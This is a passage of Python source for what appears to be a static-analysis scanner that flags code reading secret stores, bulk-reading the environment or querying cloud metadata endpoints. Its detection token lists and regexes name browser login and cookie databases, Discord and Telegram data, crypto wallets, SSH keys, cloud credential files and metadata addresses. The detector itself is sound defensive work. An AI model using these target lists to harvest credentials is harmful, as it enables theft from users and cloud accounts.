        self, names: tuple[str, ...], name: str, value: ast.expr, scope: Scope
    ) -> list[Located]:
        # ``for x in ITER`` / ``with X as x`` / ``(x := X)``; the walker keeps no statement kind,
        # so an open()/context value stands for itself and anything else is iterated.
        if isinstance(value, ast.Call) and self.ctx.facts_resolve(value.func) in ("builtins.open", "io.open"):
            return [Located(value, scope)]
        out: list[Located] = []
        position = names.index(name)
        for element in self.elements(value, scope):
            picked = element.node
            if len(names) > 1 and isinstance(picked, ast.Tuple | ast.List) and len(picked.elts) == len(names):
                picked = picked.elts[position]
            out.append(Located(picked, element.scope))
        return out

    def _bound(self) -> set[int]:
        if self._bound_ids is None:
            self._bound_ids = {
                id(value) for entries in self.ctx.facts.bindings.values() for _, _, value in entries
            }
        return self._bound_ids

    def _param_values(self, function: Scope, name: str) -> list[Located]:
        position = function.params.index(name)
        out: list[Located] = []
        for call, offset in self._calls_of(function):
            args = call.node.args
            index = position - offset
            value: ast.expr | None = None
            if 0 <= index < len(args) and not any(isinstance(a, ast.Starred) for a in args[: index + 1]):
                value = args[index]
            for keyword in call.node.keywords:
                if keyword.arg == name:
                    value = keyword.value
            if value is not None:
                out.append(Located(value, call.scope))
        return out[:MAX_CANDIDATES]

    def _calls_of(self, function: Scope) -> Iterator[tuple[CallSite, int]]:
        """Call sites of a function in this module with the parameter offset of each."""
        callers = self._caller_index()
        method = function.parent is not None and function.parent.kind is ScopeKind.CLASS
        target = function.parent.name if method and function.name == "__init__" and function.parent else None
        for call in callers.get(target or function.name, ()):
            offset = 1 if method else 0
            yield call, offset
        for call in callers.get("<thread>", ()):
            handed = _thread_target(call.node)
            if handed is not None and handed[0] == function.name:
                yield CallSite(handed[1], None, None, call.scope), 1 if method else 0

    def _caller_index(self) -> dict[str, list[CallSite]]:
        if self._callers is None:
            index: dict[str, list[CallSite]] = {}
            for call in self.ctx.facts.calls:
                func = call.node.func
                if isinstance(func, ast.Name):
                    index.setdefault(func.id, []).append(call)
                elif isinstance(func, ast.Attribute):
                    index.setdefault(func.attr, []).append(call)
                if _thread_target(call.node) is not None:
                    index.setdefault("<thread>", []).append(call)
            self._callers = index
        return self._callers

    def _self_attr_values(self, node: ast.expr) -> list[Located]:
        if self._attr_assigns is None:
            table: dict[str, list[Located]] = {}
            for scope in self.ctx.facts.scopes:
                for names, value in scope.assigns:
                    for target in names:
                        if target.startswith(("self.", "cls.")):
                            table.setdefault(target.split(".", 1)[1], []).append(Located(value, scope))
            self._attr_assigns = table
        assert isinstance(node, ast.Attribute)
        return self._attr_assigns.get(node.attr, [])[:8]

    # -- collections -------------------------------------------------------------------------

    def _elements_of(self, item: Located) -> list[Located]:
        node, scope = item.node, item.scope
        match node:
            case ast.List(elts=elts) | ast.Tuple(elts=elts) | ast.Set(elts=elts):
                return [Located(e, scope) for e in elts if not isinstance(e, ast.Starred)]
            case ast.Dict(keys=keys):
                return [Located(k, scope) for k in keys if k is not None]
            case ast.GeneratorExp(elt=elt) | ast.ListComp(elt=elt) | ast.SetComp(elt=elt):
                return [Located(elt, scope)]
            case ast.Call(func=ast.Attribute(attr="items" | "values" | "keys" as attr, value=receiver)):
                return self._dict_elements(receiver, scope, attr)
            case ast.Call(func=func, args=[first, *_]):
                name = self.ctx.facts_resolve(func) or ""
                if name in _LISTERS or (isinstance(func, ast.Attribute) and func.attr in _LISTER_METHODS):
                    return [Located(node, scope)]
                if name == "builtins.enumerate":
                    return [
                        Located(ast.Tuple(elts=[ast.Constant(0), e.node], ctx=ast.Load()), e.scope)
                        for e in self.elements(first, scope)
                    ]
                if name in (
                    "builtins.sorted",
                    "builtins.list",
                    "builtins.tuple",
                    "builtins.reversed",
                    "builtins.set",
                ):
                    return self.elements(first, scope)
            case ast.Call(func=func) if isinstance(func, ast.Attribute) and func.attr in _LISTER_METHODS:
                return [Located(node, scope)]
        return []

    def _dict_elements(self, receiver: ast.expr, scope: Scope, attr: str) -> list[Located]:
        out: list[Located] = []
        for item in self.possible(receiver, scope):
            if not isinstance(item.node, ast.Dict):
                continue
            for key, value in zip(item.node.keys, item.node.values, strict=True):
                if key is None:
                    continue
                if attr == "items":
                    out.append(Located(ast.Tuple(elts=[key, value], ctx=ast.Load()), item.scope))
                else:
                    out.append(Located(value if attr == "values" else key, item.scope))
        return out


def _pick(node: ast.expr, key: object) -> ast.expr | None:
    """``node[key]`` for literal lists, tuples and dicts; the whole literal when unsure."""
    if isinstance(node, ast.List | ast.Tuple) and isinstance(key, int) and not isinstance(key, bool):
        if -len(node.elts) <= key < len(node.elts):
            return node.elts[key]
        return None
    if isinstance(node, ast.Dict) and isinstance(key, str):
        for k, v in zip(node.keys, node.values, strict=True):
            if isinstance(k, ast.Constant) and k.value == key:
                return v
        return None
    if isinstance(node, ast.List | ast.Tuple | ast.Dict):
        return node
    return None


def _self_attr(node: ast.expr) -> bool:
    return (
        isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and node.value.id in ("self", "cls")
    )


def _env_name(ctx: PyContext, node: ast.expr) -> str | None:
    """``os.getenv('X')`` / ``os.environ['X']`` / ``os.environ.get('X')``: the variable name."""
    if isinstance(node, ast.Subscript):
        if ctx.facts_resolve(node.value) in ("os.environ", "os.environb"):
            key = node.slice
            return str(key.value) if isinstance(key, ast.Constant) else "ENV"
        return None
    if isinstance(node, ast.Call) and node.args:
        name = ctx.facts_resolve(node.func)
        if name in ("os.getenv", "os.environ.get", "os.getenvb", "os.environ.setdefault"):
            first = node.args[0]
            return str(first.value) if isinstance(first, ast.Constant) else "ENV"
    return None


def _thread_target(node: ast.Call) -> tuple[str, ast.Call] | None:
    """``Thread(target=f, args=[...])`` / ``pool.submit(f, ...)``: the function and a stand-in call."""
    target: ast.expr | None = None
    args: list[ast.expr] = []
    for keyword in node.keywords:
        if keyword.arg in ("target", "function"):
            target = keyword.value
        elif keyword.arg == "args" and isinstance(keyword.value, ast.List | ast.Tuple):
            args = list(keyword.value.elts)
    func = node.func
    if target is None and isinstance(func, ast.Attribute) and func.attr == "submit" and node.args:
        target, args = node.args[0], list(node.args[1:])
    if not isinstance(target, ast.Name):
        return None
    return target.id, ast.Call(func=target, args=args, keywords=[])


def _product(parts: list[list[str]], sep: str) -> list[str]:
    out: list[str] = []
    for combo in itertools.product(*parts):
        out.append(sep.join(combo))
        if len(out) >= MAX_CANDIDATES:
            break
    return out


def _union(groups: Iterable[list[str]]) -> list[str]:
    out: list[str] = []
    for group in groups:
        out.extend(group)
        if len(out) >= MAX_CANDIDATES:
            break
    return _dedup(out) or [UNKNOWN]


def _dedup(items: list[str]) -> list[str]:
    return list(dict.fromkeys(items))[:MAX_CANDIDATES]


# -- reads -------------------------------------------------------------------------------------

# Resolved names of calls that read (or enumerate, or copy) the path in their first argument.
_READ_FIRST_ARG = frozenset(
    {
        "builtins.open",
        "io.open",
        "codecs.open",
        "os.open",
        "os.listdir",
        "os.scandir",
        "os.walk",
        "glob.glob",
        "glob.iglob",
        "shutil.copy",
        "shutil.copy2",
        "shutil.copyfile",
        "shutil.copytree",
        "shutil.move",
        "sqlite3.connect",
        "netrc.netrc",
        "dotenv.dotenv_values",
        "dotenv.main.dotenv_values",
    }
)
_NOT_FILES = ("builtins.", "webbrowser.", "tarfile.", "zipfile.", "requests.", "urllib", "httpx.")
_WRITE_MODE = re.compile(r"^[wax]b?t?$|^[wax]t?b?$")
_OPENERS = frozenset({"builtins.open", "io.open", "codecs.open"})
_DATA_METHODS = frozenset({"read", "readlines", "readline", "read_text", "read_bytes"})
_KEYWORD_PATHS = ("file", "path", "filename", "pathname", "src", "database", "name", "root_dir")
# Reading these in a folder of secrets reads no secret.
_READ_WORDS = re.compile(
    r"\b(?:open|read_text|read_bytes|listdir|scandir|glob|iglob|rglob|iterdir|walk|copy\w*|copytree|"
    r"connect|make_archive|netrc|ZipFile)\s*\("
)


@dataclass(frozen=True, slots=True)
class SecretRead:
    kind: SecretKind
    call: CallSite
    data: ast.AST  # the expression whose value is the secret data
    path: str


class ReadFinder:
    """Reads of secret stores in one module."""

    def __init__(self, ctx: PyContext, resolver: PathResolver) -> None:
        self.ctx = ctx
        self.resolver = resolver
        self._outer = _outer_calls(ctx)
        self._walked: set[int] = {id(c.scope) for c in ctx.facts.calls}
        self._readers: dict[int, bool] = {}

    def reads(self) -> list[SecretRead]:
        found: list[SecretRead] = []
        copied: dict[str, SecretKind] = {}
        for call in self.ctx.facts.calls:
            command = (call.name or "") in PROCESS_NAMES
            targets = self._path_args(call)
            if targets is None:
                targets = self._local_reader_args(call)
            hits: dict[str, tuple[SecretKind, str]] = {}
            for target in targets or ():
                for kind, path in self._match(target, call.scope, copied, command):
                    hits.setdefault(kind.key, (kind, path))
            for kind, path in hits.values():
                found.append(SecretRead(kind, call, self._data_node(call), path))
                self._note_copy(call, kind, copied)
        return found

    def _path_args(self, call: CallSite) -> list[ast.expr] | None:
        """The path arguments of a read call, None if this is not a read."""
        name = call.name or ""
        node = call.node
        if name in _READ_FIRST_ARG:
            if name in _OPENERS and _opens_for_writing(node):
                return []
            if name == "netrc.netrc" and not node.args:
                return [ast.Constant("~/.netrc")]
            return [*node.args[:1], *(k.value for k in node.keywords if k.arg in _KEYWORD_PATHS)]
        if name == "shutil.make_archive":
            return [*node.args[2:3], *(k.value for k in node.keywords if k.arg == "root_dir")]
        if name in PROCESS_NAMES:
            return [command_text(node)]
        func = node.func
        if not isinstance(func, ast.Attribute) or name.startswith(_NOT_FILES):
            return None
        attr = call.attr
        if attr in ("read_text", "read_bytes", "iterdir"):
            return [func.value]
        if attr == "open":
            return [] if _write_mode_anywhere(node) else [func.value, *node.args[:1]]
        if attr in ("glob", "rglob"):
            return [node] if node.args else [func.value]
        if attr == "read" and node.args and not _is_number(node.args[0]):
            return node.args[:1]  # ConfigParser.read(path)
        return None

    def _local_reader_args(self, call: CallSite) -> list[ast.expr] | None:
        # A module function whose body was not walked (no token on its lines) but reads files:
        # a secret path handed to it counts as read at the call.
        node = call.node
        handed = _thread_target(node)
        if handed is not None:  # Thread(target=f, args=[...]) / pool.submit(f, ...)
            node = handed[1]
        func = node.func
        if not isinstance(func, ast.Name) or func.id not in self.ctx.facts.functions:
            return None
        if any(self._cold_reader(scope) for scope in self.ctx.facts.functions[func.id]):
            return [*node.args, *(k.value for k in node.keywords)]
        return None

    def _cold_reader(self, scope: Scope) -> bool:
        key = id(scope)
        if key not in self._readers:
            node = scope.node
            verdict = False
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and key not in self._walked:
                start, end = node.lineno, node.end_lineno or node.lineno
                body = "\n".join(self.ctx.line_text(n) for n in range(start, min(end, start + 80) + 1))
                verdict = bool(_READ_WORDS.search(body))
            self._readers[key] = verdict
        return self._readers[key]

    def _match(
        self, target: ast.expr, scope: Scope, copied: dict[str, SecretKind], command: bool
    ) -> Iterator[tuple[SecretKind, str]]:
        if isinstance(target, ast.Name) and target.id in copied:
            yield copied[target.id], f"copy of a {copied[target.id].label} in {target.id}"
            return
        for candidate in self.resolver.render(target, scope):
            if command and not _TEXT_READ_VERB.search(candidate):
                continue
            if not command and not _path_like(candidate):
                continue
            kind = classify_path(candidate)
            if kind is not None and not (command and kind.key == "dotenv"):
                yield kind, candidate

    def _note_copy(self, call: CallSite, kind: SecretKind, copied: dict[str, SecretKind]) -> None:
        # shutil.copy(secret, tmp) then sqlite3.connect(tmp): the copy is secret too.
        if (call.name or "").startswith("shutil.copy") and len(call.node.args) > 1:
            dest = call.node.args[1]
            if isinstance(dest, ast.Name):
                copied[dest.id] = kind

    def _data_node(self, call: CallSite) -> ast.AST:
        """``open(p).read()`` for ``open(p)``; the call itself otherwise."""
        outer = self._outer.get(id(call.node))
        if outer is not None and isinstance(outer.func, ast.Attribute) and outer.func.attr in _DATA_METHODS:
            return outer
        return call.node


def _outer_calls(ctx: PyContext) -> dict[int, ast.Call]:
    """Method calls made directly on the result of another call: ``open(p).read()``."""
    out: dict[int, ast.Call] = {}
    for call in ctx.facts.calls:
        func = call.node.func
        if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Call):
            out[id(func.value)] = call.node
    return out


def _opens_for_writing(node: ast.Call) -> bool:
    mode: ast.expr | None = node.args[1] if len(node.args) > 1 else None
    for keyword in node.keywords:
        if keyword.arg == "mode":
            mode = keyword.value
    if not (isinstance(mode, ast.Constant) and isinstance(mode.value, str)):
        return False
    return any(c in mode.value for c in "wax") and "+" not in mode.value


def _write_mode_anywhere(node: ast.Call) -> bool:
    modes = [*node.args, *(k.value for k in node.keywords if k.arg == "mode")]
    return any(
        isinstance(m, ast.Constant) and isinstance(m.value, str) and _WRITE_MODE.match(m.value) for m in modes
    )


# Multi-word store names; any other space means the text is a message, not a path.
_SPACED_NAMES = re.compile(
    r"(?i)login data|web data|local state|local storage|user data|local extension settings|"
    r"telegram desktop|opera software|opera (?:gx )?stable|chrome sxs|application support|"
    r"atomic wallet|wasabi wallet|program files(?: \(x86\))?|documents and settings|app data"
)


def _path_like(candidate: str) -> bool:
    """A file path rather than a sentence that mentions one (an error message, a help text)."""
    if len(candidate) > 400 or "\n" in candidate:
        return False
    return not re.search(r"\s", _SPACED_NAMES.sub("", candidate))


def _is_number(node: ast.expr) -> bool:
    return isinstance(node, ast.Constant) and isinstance(node.value, int)


def command_text(node: ast.Call) -> ast.expr:
    """A process call's command as one expression (an argv list joined by spaces)."""
    first: ast.expr = node.args[0] if node.args else ast.Constant("")
    for keyword in node.keywords:
        if keyword.arg == "args":
            first = keyword.value
    if isinstance(first, ast.List | ast.Tuple) and first.elts:
        parts: list[ast.expr] = []
        for element in first.elts:
            parts.extend([element, ast.Constant(" ")])
        joined: ast.expr = parts[0]
        for part in parts[1:-1]:
            joined = ast.BinOp(left=joined, op=ast.Add(), right=part)
        return joined
    return first


# -- the environment ---------------------------------------------------------------------------

_ENV_NAMES = frozenset({"os.environ", "os.environb"})
_ENV_METHODS = frozenset({"copy", "items", "keys", "values", "__iter__", "__repr__", "__str__"})
_ENV_WRAPPERS = frozenset(
    {
        "builtins.dict",
        "builtins.list",
        "builtins.str",
        "builtins.repr",
        "builtins.tuple",
        "builtins.sorted",
        "builtins.set",
        "json.dumps",
        "json.dump",
        "pickle.dumps",
        "pprint.pformat",
        "yaml.dump",
        "yaml.safe_dump",
    }
)


def _is_environ(ctx: PyContext, node: ast.expr | None) -> bool:
    return node is not None and not isinstance(node, ast.Call) and ctx.facts_resolve(node) in _ENV_NAMES


# Calls that take the environment without reading it out.
_ENV_CONSUMERS = frozenset(
    {
        "len",
        "isinstance",
        "hasattr",
        "getattr",
        "id",
        "type",
        "dict",  # patch.dict(os.environ, ...)
        "update",
        "substitute",
        "safe_substitute",
        "format_map",
        "expandvars",
        "get",
        "getenv",
        "setdefault",
        "pop",
        "putenv",
        "Environment",
    }
)


def _env_reads(ctx: PyContext) -> Iterator[tuple[CallSite, ast.AST, str]]:
    """Whole-environment reads: (site, the expression read, a short description)."""
    for call in ctx.facts.calls:
        func = call.node.func
        if isinstance(func, ast.Attribute) and func.attr in _ENV_METHODS and _is_environ(ctx, func.value):
            yield call, call.node, f"os.environ.{func.attr}()"
            continue
        name = call.name or call.attr or "a call"
        if name in _ENV_WRAPPERS:
            if any(_holds_environ(ctx, a) for a in call.node.args):
                yield call, call.node, f"{name}(os.environ)"
            continue
        if name.rsplit(".", 1)[-1] in _ENV_CONSUMERS and not name.startswith("builtins.dict"):
            continue
        values = [
            *call.node.args,
            *(k.value for k in call.node.keywords if k.arg not in (None, "env", "environ")),
        ]
        for value in values:
            if _holds_environ(ctx, value):
                yield call, value, f"os.environ passed to {name}"
    for scope in ctx.facts.scopes:
        for _names, value in scope.assigns:
            if isinstance(value, ast.Dict | ast.JoinedStr) and _holds_environ(ctx, value):
                yield _site(value, scope), value, short(value, 60)


def _site(node: ast.expr, scope: Scope) -> CallSite:
    """A stand-in call site for an expression that is not a call (for marks and reports)."""
    return CallSite(ast.Call(func=node, args=[], keywords=[], lineno=node.lineno), None, None, scope)


def _holds_environ(ctx: PyContext, node: ast.expr) -> bool:
    if _is_environ(ctx, node):
        return True
    if isinstance(node, ast.Dict):
        return any(k is None and _is_environ(ctx, v) for k, v in zip(node.keys, node.values, strict=True))
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(v, ast.FormattedValue) and _is_environ(ctx, v.value) for v in node.values)
    return False


def _env_loops(ctx: PyContext) -> Iterator[tuple[Scope, ast.expr]]:
    """``for k in os.environ:`` (a loop target, not an alias assignment)."""
    bound = {id(value) for entries in ctx.facts.bindings.values() for _, _, value in entries}
    for scope in ctx.facts.scopes:
        for _names, value in scope.assigns:
            if id(value) not in bound and _is_environ(ctx, value):
                yield scope, value


def _only_for_subprocess(ctx: PyContext, call: CallSite) -> bool:
    """``env = os.environ.copy()`` handed on as ``env=``: a child's environment, not a read."""
    names = [names for names, value in call.scope.assigns if value is call.node]
    if not names or not names[0]:
        return False
    target = names[0][0]
    uses = [
        c
        for c in ctx.facts.calls
        if any(
            isinstance(k.value, ast.Name) and k.value.id == target for k in c.node.keywords if k.arg == "env"
        )
    ]
    return bool(uses)


# -- cloud metadata ----------------------------------------------------------------------------

_REQUEST_ATTRS = frozenset(
    {
        "get",
        "post",
        "put",
        "request",
        "urlopen",
        "Request",
        "fetch",
        "HTTPConnection",
        "HTTPSConnection",
        "create_connection",
        "connect",
        "open",
    }
)


def _metadata_call(ctx: PyContext, resolver: PathResolver, call: CallSite) -> tuple[bool, str] | None:
    """(credential path?, evidence) when a call requests an instance-metadata endpoint."""
    name = call.name or ""
    last = name.rsplit(".", 1)[-1] if name else (call.attr or "")
    process = name in PROCESS_NAMES
    if last not in _REQUEST_ATTRS and not process:
        return None
    if process:
        exprs = [command_text(call.node)]
    else:
        exprs = [*call.node.args[:2], *(k.value for k in call.node.keywords if k.arg in _URL_KEYWORDS)]
    urls: list[str] = []
    for expr in exprs:
        urls.extend(c for c in resolver.render(expr, call.scope) if _METADATA_HOST.search(c))
    headers = [k.value for k in call.node.keywords if k.arg == "headers"]
    if last == "Request" and len(call.node.args) > 2:
        headers.append(call.node.args[2])
    flavour = any(_metadata_headers(resolver, h, call.scope) for h in headers)
    if not urls and not flavour:
        return None
    credential = any(_METADATA_CREDENTIAL_PATH.search(u) for u in urls)
    shown = display(urls[0]) if urls else "metadata header"
    return credential, shown


_METADATA_HINTS = ("metadata-flavor", "x-aws-ec2-metadata", "'metadata'", '"metadata"')
_METADATA_GATE = (*METADATA_HOSTS, *_METADATA_HINTS)
_URL_KEYWORDS = ("url", "host", "address", "fullurl", "uri")


def _metadata_headers(resolver: PathResolver, expr: ast.expr, scope: Scope) -> bool:
    for item in resolver.possible(expr, scope):
        if not isinstance(item.node, ast.Dict):
            continue
        for key, value in zip(item.node.keys, item.node.values, strict=True):
            if not isinstance(key, ast.Constant):
                continue
            header = str(key.value).lower()
            if header in (
                "metadata-flavor",
                "x-aws-ec2-metadata-token",
                "x-aws-ec2-metadata-token-ttl-seconds",
            ):
                return True
            if (
                header == "metadata"
                and isinstance(value, ast.Constant)
                and str(value.value).lower() == "true"
            ):
                return True
    return False


# -- text files --------------------------------------------------------------------------------

_TEXT_READ_VERB = re.compile(
    r"(?i)(?:^|[\s;&|(`$])(?:cat|type|cp|copy|xcopy|robocopy|tar|zip|7z|scp|rsync|base64|xxd|head|tail|"
    r"get-content|gc|copy-item|compress-archive|get-childitem|dir|ls|find|curl|wget|open|"
    r"read_text|read_bytes|listdir|glob|sqlite3\.connect|shutil\.copy\w*)\b"
)
_TEXT_METADATA_VERB = re.compile(
    r"(?i)\b(?:curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm|urlopen|requests\.get|"
    r"requests\.put|http\.get)\b"
)
_TEXT_COMMENT = re.compile(r"^\s*(?:#|rem\b|::|//)", re.IGNORECASE)


# -- the detector ------------------------------------------------------------------------------

_GATE_TOKENS = (
    ".ssh",
    "ssh_host_",
    ".aws",
    "gcloud",
    "application_default_credentials",
    ".azure",
    ".oci",
    ".kube",
    "/etc/kubernetes",
    "serviceaccount",
    "netrc",
    "git-credentials",
    "pypirc",
    "dockercfg",
    ".docker",
    "npmrc",
    "vault-token",
    "pgpass",
    "hosts.yml",
    ".env",
    "login data",
    "web data",
    "local state",
    "cookies",
    "logins.json",
    "key4.db",
    "key3.db",
    "signons",
    "chrome",
    "chromium",
    "edge",
    "brave",
    "opera",
    "yandex",
    "vivaldi",
    "firefox",
    "mozilla",
    "local storage",
    "leveldb",
    "discord",
    "lightcord",
    "telegram",
    "exodus",
    "electrum",
    "atomic",
    "jaxx",
    "coinomi",
    "guarda",
    "wallet",
    "keystore",
    "solana",
    "zcash",
    *WALLET_EXTENSIONS,
    "169.254.",
    "metadata",
    "100.100.100.200",
    "fd00:ec2",
)


def wants_module(ctx: PyContext) -> bool:
    """Whether a module could hold a secret read: a token in its text or computed strings."""
    return hint_index(_GATE_TOKENS).contains_any(ctx.lower_text()) or bool(ctx.marks_of(Cap.DECODE))


def _path_part_tokens(*folders: str) -> tuple[str, ...]:
    return tuple(f"{before}{folder}" for folder in folders for before in ("/", "'", '"', "\\"))


class CredentialsDetector(Detector):
    rules: ClassVar[tuple[Rule, ...]] = RULES
    tokens: ClassVar[tuple[str, ...]] = (
        "Login Data",
        "Local State",
        "Web Data",
        "logins.json",
        "key4.db",
        "cookies.sqlite",
        "signons.sqlite",
        "Local Storage",
        "leveldb",
        "wallet.dat",
        "Exodus",
        "exodus.wallet",
        "Electrum",
        "com.liberty.jaxx",
        "Coinomi",
        # Telegram's tdata folder, but never the tail of "metadata".
        "'tdata",
        '"tdata',
        "/tdata",
        "\\tdata",
        ".git-credentials",
        ".pypirc",
        ".vault-token",
        "ssh_host_",
        "id_rsa",
        "id_ed25519",
        "serviceaccount/token",
        "/var/run/secrets",
        "application_default_credentials",
        "security-credentials",
        "metadata.google.internal",
        "Metadata-Flavor",
        "169.254.170.2",
        "100.100.100.200",
        *WALLET_EXTENSIONS,
    )
    context_tokens: ClassVar[tuple[str, ...]] = (
        # Dot-files as path parts ("~/.aws", '".env"', "\\.ssh"), never as module paths
        # ("litellm.llms.azure") or the ".env" of "os.environ".
        *_path_part_tokens(".ssh", ".aws", ".azure", ".kube", ".docker", ".npmrc", ".pgpass", ".env"),
        "gcloud",
        "netrc",
        "/serviceaccount",  # the mounted token, not Google's gserviceaccount.com e-mails
        "169.254.169.254",
        # The other metadata endpoints and the headers they demand: a function that builds such
        # a request is walked even where its URL comes from elsewhere (IMDSv2's token header).
        "169.254.170.2",
        "metadata.google.internal",
        "100.100.100.200",
        "ec2-metadata",
        "Metadata-Flavor",
        "Cookies",
        "Chrome",
        "Firefox",
        "Mozilla",
        "discord",
        "Discord",
        "Telegram",
        "wallet",
        "Wallet",
        "Atomic",
        "solana",
        "keystore",
    )
    text_kinds: ClassVar[frozenset[FileKind]] = frozenset(
        {FileKind.SHELL, FileKind.BATCH, FileKind.POWERSHELL, FileKind.PYTHON}
    )

    def on_module(self, ctx: PyContext) -> None:
        env_text = "environ" in ctx.text
        if env_text:
            self._environment(ctx)
        if not wants_module(ctx):
            return
        resolver = PathResolver(ctx)
        reads = ReadFinder(ctx, resolver).reads()
        kinds: dict[str, SecretRead] = {}
        for read in reads:
            ctx.mark(Cap.SECRET_READ, read.call, f"{read.kind.label}: {display(read.path)}", node=read.data)
            evidence = f"{short(read.call.node, 100)} reads {read.kind.label} ({display(read.path)[:80]})"
            ctx.report_at(read.kind.rule, read.call, evidence)
            kinds.setdefault(read.kind.key, read)
        metadata = self._metadata(ctx, resolver)
        if metadata is not None:
            kinds.setdefault("metadata", metadata)
        if len(kinds) >= 3:
            self._sweep(ctx, kinds)

    def _metadata(self, ctx: PyContext, resolver: PathResolver) -> SecretRead | None:
        if not hint_index(_METADATA_GATE).contains_any(ctx.lower_text()):
            return None
        first: SecretRead | None = None
        for call in ctx.facts.calls:
            hit = _metadata_call(ctx, resolver, call)
            if hit is None:
                continue
            credential, shown = hit
            rule = METADATA_CREDENTIALS if credential else METADATA_ACCESS
            ctx.mark(Cap.SECRET_READ, call, f"{METADATA_MARK}: {shown}", node=call.node)
            ctx.report_at(rule, call, f"{short(call.node, 100)} requests {shown[:80]}")
            if credential and first is None:
                first = SecretRead(_KIND_BY_KEY["cloud"], call, call.node, shown)
        return first

    def _sweep(self, ctx: PyContext, kinds: dict[str, SecretRead]) -> None:
        reads = sorted(kinds.values(), key=lambda r: _CONTEXT_RANK[ctx.context_of(r.call.scope)])
        labels = ", ".join(
            sorted({r.kind.label if k != "metadata" else "instance metadata" for k, r in kinds.items()})
        )
        ctx.report_at(CREDENTIAL_SWEEP, reads[0].call, f"reads {len(kinds)} kinds of secrets: {labels}")

    def _environment(self, ctx: PyContext) -> None:
        seen: set[int] = set()
        for site, node, what in _env_reads(ctx):
            if id(node) in seen:
                continue
            seen.add(id(node))
            if node is site.node and _only_for_subprocess(ctx, site):
                continue
            ctx.mark(Cap.ENV_BULK, site, what, node=node)
            ctx.report_at(ENV_BULK_READ, site, f"{what}: {ctx.line_text(site.line).strip()[:120]}")
        for scope, value in _env_loops(ctx):
            site = _site(value, scope)
            ctx.mark(Cap.ENV_BULK, site, "loop over os.environ", node=value)
            ctx.report_at(
                ENV_BULK_READ, site, f"loop over os.environ: {ctx.line_text(site.line).strip()[:120]}"
            )

    # -- text ------------------------------------------------------------------------------

    def on_text(self, ctx: TextContext) -> None:
        text = ctx.text
        # Only lines holding a gate token can match: a minified bundle has a few of them.
        candidates = ctx.hint_lines(_GATE_TOKENS, limit=2000)
        if not candidates:
            return
        lines = text.split("\n")
        kinds: dict[str, int] = {}
        for number in sorted(candidates):
            line = lines[number - 1] if number <= len(lines) else ""
            if len(line) > 2000 or _TEXT_COMMENT.match(line):
                continue
            self._text_line(ctx, number, line, kinds)
        if len(kinds) >= 3:
            first = min(kinds.values())
            ctx.report(
                CREDENTIAL_SWEEP, first, f"reads {len(kinds)} kinds of secrets: {', '.join(sorted(kinds))}"
            )

    def _text_line(self, ctx: TextContext, number: int, line: str, kinds: dict[str, int]) -> None:
        if _METADATA_HOST.search(line) and _TEXT_METADATA_VERB.search(line):
            credential = bool(_METADATA_CREDENTIAL_PATH.search(line))
            ctx.mark(Cap.SECRET_READ, number, METADATA_MARK)
            ctx.report(METADATA_CREDENTIALS if credential else METADATA_ACCESS, number, line.strip())
            if credential:
                kinds.setdefault("instance metadata", number)
            return
        if not _TEXT_READ_VERB.search(line):
            return
        kind = classify_path(_strip_env(line))
        if kind is None:
            return
        ctx.mark(Cap.SECRET_READ, number, kind.label)
        ctx.report(kind.rule, number, line.strip())
        kinds.setdefault(kind.label, number)


_CONTEXT_RANK = {ctx: i for i, ctx in enumerate(RunContext)}


def _strip_env(line: str) -> str:
    # $env:APPDATA\discord / %APPDATA%\discord / ${HOME}/.ssh -> plain path components
    return re.sub(r"\$\{?env:|\$\{?(\w+)\}?", lambda m: "%" + (m.group(1) or "") + "%/", line)
